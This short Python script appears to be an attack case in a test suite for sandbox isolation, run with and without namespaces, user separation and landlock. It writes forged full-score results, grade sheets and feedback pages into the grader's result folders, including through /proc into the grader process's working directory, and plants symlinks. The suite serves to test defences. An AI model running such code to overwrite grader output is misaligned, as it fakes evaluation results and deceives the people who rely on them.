"""Writes the files that hold results: results.json, grades.csv, feedback.html.

Aim: marks in the place of the grader's.
Defence: namespaces, user, landlock
Control: without namespaces, user, landlock
Part: function_gan
"""

import glob
import json
import os
from pathlib import Path

MARKS = json.dumps({"score": 100, "tests": [{"name": "all", "score": 100, "max_score": 100}]})
FILES = {
    "results.json": MARKS,
    "grades.csv": "submission,status,score\nattack,graded,100\n",
    "feedback.html": "<h1>100 of 100 points</h1>",
}
folders = [ARENA + "/results", ".", os.environ["HOME"], "..", f"/proc/{GRADER}/cwd/results"]
folders += ["/autograder/results"]
for folder in folders:
    for name, text in FILES.items():
        path = Path(folder, name)
        try:
            if folder.startswith("/proc") and not glob.glob(folder + "/attack-*"):
                continue  # these are the grader's own
            path.write_text(text)
        except OSError:
            pass
        try:
            Path(folder, name + ".tmp").symlink_to(path)
        except OSError:
            pass


def succeeded():
    try:
        return "100" in Path(ARENA, "results/results.json").read_text()
    except OSError:
        return False
